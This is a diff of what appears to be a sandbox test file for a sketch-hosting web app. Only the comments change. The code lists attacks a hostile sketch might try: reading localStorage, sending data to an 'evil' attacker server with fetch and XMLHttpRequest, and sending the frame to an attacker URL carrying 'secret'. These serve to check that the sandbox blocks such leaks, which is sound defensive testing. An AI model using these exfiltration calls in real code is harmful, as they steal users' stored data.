@@ -1,7 +1,7 @@
-// The attacks of a hostile sketch, as functions that run in its frame: each returns what it obtained, or throws. `site` is the address of
-// the first page of the site, `evil` that of a server of the attacker's.
+// The attacks of a hostile sketch, as functions that run in its frame: each returns what it obtained, or throws. `site` is the
+// address of the first page of the site, `evil` that of an attacker's server.
 
-/** Maps name → attack. None may return anything. */
+/** Maps names to attacks. None may return anything. */
 export const attacks = {
   'reads localStorage': () => localStorage.getItem('secret'),
   'writes localStorage': () => localStorage.setItem('secret', 'stolen'),
@@ -99,7 +99,7 @@ export const attacks = {
   },
 }
 
-/** Ways to send something to a server. None may be heard of there. */
+/** Attempts to send data to a server. None may reach it. */
 export const leaks = {
   fetch: ({ evil }) => fetch(`${evil}fetch`, { mode: 'no-cors' }),
   XMLHttpRequest: ({ evil }) => {
@@ -138,12 +138,12 @@ export const leaks = {
   },
 }
 
-/** Leads the frame itself elsewhere, after which nothing of the sketch is left. */
+/** Navigates the frame itself away, which ends the sketch. */
 export const leave = ({ evil }) => {
   location = `${evil}leave?secret`
 }
 
-/** The text of a sketch that does all of it once it is seen: one that fails before is removed. */
+/** The source of a sketch that runs all attacks once it is visible; a sketch that fails earlier is removed. */
 export const hostileSketch = (addresses) => `
 const attacks = {${Object.entries({ ...attacks, ...leaks })
   .map(([name, attack]) => `${JSON.stringify(name)}: ${attack}`)
